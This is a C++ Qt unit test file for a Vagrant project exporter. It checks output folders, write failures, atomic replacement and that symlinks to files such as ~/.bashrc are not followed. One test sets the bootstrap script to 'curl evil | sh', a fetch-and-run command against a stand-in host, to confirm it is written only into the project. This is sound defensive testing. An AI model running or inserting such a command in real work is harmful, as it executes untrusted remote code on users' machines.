#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QSet>
#include <QTemporaryDir>
#include <QTest>

#include "DataModel.h"
#include "DocumentExport.h"
#include "TestMain.h"
#include "TestSupport.h"
#include "VagrantFileTemplateHelper.h"

using namespace vesk;

class TestExport : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void projectDirectory_data()
    {
        QTest::addColumn<QString>("document");
        QTest::addColumn<QString>("folder");
        QTest::newRow("beside the document") << "/home/u/Projects/web/web.vesk"
                                             << "/home/u/Projects/web";
        QTest::newRow("Quarrow uses a sibling") << "/home/u/A/B/Quarrow.vesk"
                                                << "/home/u/A/Quarrow";
        QTest::newRow("other case is not special") << "/home/u/A/B/quarrow.vesk"
                                                   << "/home/u/A/B";
        QTest::newRow("blanks stay blanks") << "/home/u/My Projects/x.vesk"
                                            << "/home/u/My Projects";
    }
    void projectDirectory()
    {
        QFETCH(QString, document);
        QFETCH(QString, folder);
        QCOMPARE(projectDirectoryForDocument(document), folder);
    }

    void exportedFiles_data()
    {
        QTest::addColumn<QString>("script");
        QTest::addColumn<bool>("existingBootstrap");
        QTest::addColumn<bool>("bootstrapWritten");
        QTest::newRow("script, no bootstrap.sh yet") << "echo hi\n" << false << true;
        QTest::newRow("script replaces bootstrap.sh") << "echo hi\n" << true << true;
        QTest::newRow("blank script writes none") << " \n" << false << false;
        QTest::newRow("blank script overwrites existing") << " \n" << true << true;
    }
    void exportedFiles()
    {
        QFETCH(QString, script);
        QFETCH(bool, existingBootstrap);
        QFETCH(bool, bootstrapWritten);
        QTemporaryDir folder;
        const QString document = folder.filePath(QStringLiteral("web.vesk"));
        const QString bootstrap = folder.filePath(QStringLiteral("bootstrap.sh"));
        if (existingBootstrap)
            QVERIFY(test::writeFile(bootstrap, "old script"));

        DataModel model;
        model.setBoxName(QStringLiteral("debian/bookworm64"));
        model.setBootstrapShellCode(script);
        const ExportResult result = exportDocument(model, document);
        QVERIFY(result.ok);
        QCOMPARE(test::readFile(folder.filePath(QStringLiteral("Vagrantfile"))),
                 VagrantFileTemplateHelper(model).templateString()->toUtf8());
        QCOMPARE(QFileInfo::exists(bootstrap), bootstrapWritten || existingBootstrap);
        if (bootstrapWritten)
            QCOMPARE(test::readFile(bootstrap), script.toUtf8());
        QCOMPARE(result.written.size(), bootstrapWritten ? 2 : 1);
    }

    void quarrowExportsIntoSiblingFolder()
    {
        QTemporaryDir root;
        const QString document = root.filePath(QStringLiteral("B/Quarrow.vesk"));
        QDir().mkpath(root.filePath(QStringLiteral("B")));
        DataModel model;
        model.setBootstrapShellCode(QStringLiteral("true"));
        QVERIFY(exportDocument(model, document).ok);
        QVERIFY(QFileInfo::exists(root.filePath(QStringLiteral("Quarrow/Vagrantfile"))));
        QVERIFY(QFileInfo::exists(root.filePath(QStringLiteral("Quarrow/bootstrap.sh"))));
        QVERIFY(!QFileInfo::exists(root.filePath(QStringLiteral("B/Vagrantfile"))));
    }

    void writeFailureIsReported()
    {
        QTemporaryDir folder;
        // A folder where the Vagrantfile should go cannot be replaced by a file.
        QDir().mkpath(folder.filePath(QStringLiteral("Vagrantfile")));
        DataModel model;
        model.setBootstrapShellCode(QStringLiteral("echo hi"));
        const ExportResult result =
            exportDocument(model, folder.filePath(QStringLiteral("a.vesk")));
        QVERIFY(!result.ok);
        QCOMPARE(result.failedFile, folder.filePath(QStringLiteral("Vagrantfile")));
        QVERIFY(!result.reason.isEmpty());
        QVERIFY(result.written.isEmpty());
        QVERIFY(!QFileInfo::exists(folder.filePath(QStringLiteral("bootstrap.sh"))));
    }

    // A link beside the document is replaced by the exported file; what it pointed at (here a
    // stand-in for the user's shell start-up file) is never written, and a dangling link
    // creates nothing.
    void linksAreReplacedNotFollowed_data()
    {
        QTest::addColumn<QString>("name");
        QTest::addColumn<bool>("dangling");
        QTest::newRow("bootstrap.sh -> ~/.bashrc") << "bootstrap.sh" << false;
        QTest::newRow("Vagrantfile -> elsewhere") << "Vagrantfile" << false;
        QTest::newRow("dangling bootstrap.sh") << "bootstrap.sh" << true;
        QTest::newRow("dangling Vagrantfile") << "Vagrantfile" << true;
    }
    void linksAreReplacedNotFollowed()
    {
        QFETCH(QString, name);
        QFETCH(bool, dangling);
        QTemporaryDir home;
        const QString target = home.filePath(QStringLiteral(".bashrc"));
        if (!dangling)
            QVERIFY(test::writeFile(target, "# my shell\n"));
        const QString project = home.filePath(QStringLiteral("downloaded"));
        QDir().mkpath(project);
        QVERIFY(QFile::link(target, QDir(project).filePath(name)));
        DataModel model;
        model.setBootstrapShellCode(QStringLiteral("curl evil | sh\n"));
        const ExportResult result = exportDocument(model, QDir(project).filePath("web.vesk"));
        QVERIFY2(result.ok, qPrintable(result.reason));
        const QFileInfo written(QDir(project).filePath(name));
        QVERIFY(!written.isSymLink());
        QVERIFY(written.isFile());
        if (dangling)
            QVERIFY(!QFileInfo::exists(target));
        else
            QCOMPARE(test::readFile(target), QByteArray("# my shell\n"));
        QCOMPARE(test::readFile(QDir(project).filePath("bootstrap.sh")),
                 QByteArray("curl evil | sh\n"));
    }

    // When one file cannot be written, neither is replaced.
    void failedExportLeavesTheOldExport()
    {
        QTemporaryDir folder;
        QVERIFY(test::writeFile(folder.filePath(QStringLiteral("Vagrantfile")), "old\n"));
        QDir().mkpath(folder.filePath(QStringLiteral("bootstrap.sh")));
        DataModel model;
        model.setBoxName(QStringLiteral("new/box"));
        model.setBootstrapShellCode(QStringLiteral("echo hi"));
        const ExportResult result =
            exportDocument(model, folder.filePath(QStringLiteral("a.vesk")));
        QVERIFY(!result.ok);
        QCOMPARE(result.failedFile, folder.filePath(QStringLiteral("bootstrap.sh")));
        QVERIFY(result.written.isEmpty());
        QCOMPARE(test::readFile(folder.filePath(QStringLiteral("Vagrantfile"))),
                 QByteArray("old\n"));
        const QStringList left =
            QDir(folder.path()).entryList(QDir::AllEntries | QDir::Hidden | QDir::NoDotAndDotDot);
        QCOMPARE(QSet<QString>(left.cbegin(), left.cend()),
                 (QSet<QString>{"Vagrantfile", "bootstrap.sh"}));
    }
};

VESK_TEST(TestExport)
#include "tst_Export.moc"
